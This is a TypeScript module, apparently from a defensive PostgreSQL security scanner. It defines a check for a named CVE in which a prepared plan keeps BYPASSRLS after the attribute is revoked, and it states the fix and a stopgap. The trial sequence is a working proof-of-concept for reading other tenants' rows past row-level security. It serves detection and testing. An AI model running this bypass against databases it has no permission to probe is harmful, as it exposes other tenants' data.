import { quoteIdentifier } from "../../../postgres/sql/quote";
import { heldBack, reached } from "../../observation";
import { SCRATCH, scratchSchema } from "../scratch";
import { mayTry } from "../tenant/actions";
import { holeAttack } from "./hole";

export default holeAttack({
  id: "hole-plan-after-revoke",
  hole: "CVE-2026-14666",
  title: "Uses a hole: a cached plan keeps what the role was before it was mended",
  severity: "high",
  why: "Taking BYPASSRLS or a membership away changes nothing for sessions that have planned their statements before.",
  defence: "roles that row security binds from the beginning",
  harmless: "row security binds the role on every tenant table, so that no plan of its own can know better",
  meanwhile: "end a role's sessions after taking an attribute or a membership from it",
  trial: (context) => {
    const { role } = context.stranger;
    const name = quoteIdentifier(role);
    return {
      prepare: [
        ...scratchSchema(role),
        `CREATE TABLE ${SCRATCH}.rows (tenant text)`,
        `INSERT INTO ${SCRATCH}.rows VALUES ('own'), ('other')`,
        `ALTER TABLE ${SCRATCH}.rows ENABLE ROW LEVEL SECURITY`,
        `CREATE POLICY tenant ON ${SCRATCH}.rows USING (tenant = 'own')`,
        `GRANT SELECT ON ${SCRATCH}.rows TO ${name}`,
        "SET LOCAL plan_cache_mode = force_generic_plan",
        "DEALLOCATE ALL",
        `ALTER ROLE ${name} BYPASSRLS`,
        ...context.as(role, [
          `PREPARE palisade_attack AS SELECT EXISTS (SELECT FROM ${SCRATCH}.rows WHERE tenant <> 'own') AS seen`,
          "EXECUTE palisade_attack",
        ]),
        `ALTER ROLE ${name} NOBYPASSRLS`,
      ],
      statements: ["EXECUTE palisade_attack"],
      read: ([row]) =>
        row?.["seen"] === true
          ? reached("the plan saw all rows as before")
          : heldBack("the plan was made anew"),
    };
  },
  here: async (context) => {
    const tables = context.scene.targets["tenant table"].filter((table) => mayTry(context, table, "read"));
    return context.attempts(
      tables.map(({ key, object }) => ({
        statements: [`SELECT pg_catalog.row_security_active(${object.oid}::oid) AS bound`],
        read: ([row]) =>
          row?.["bound"] === true
            ? heldBack("row security binds it")
            : reached(
                `row security does not bind it on ${key}, and plans made now stay so when that is mended`,
              ),
      })),
    );
  },
});
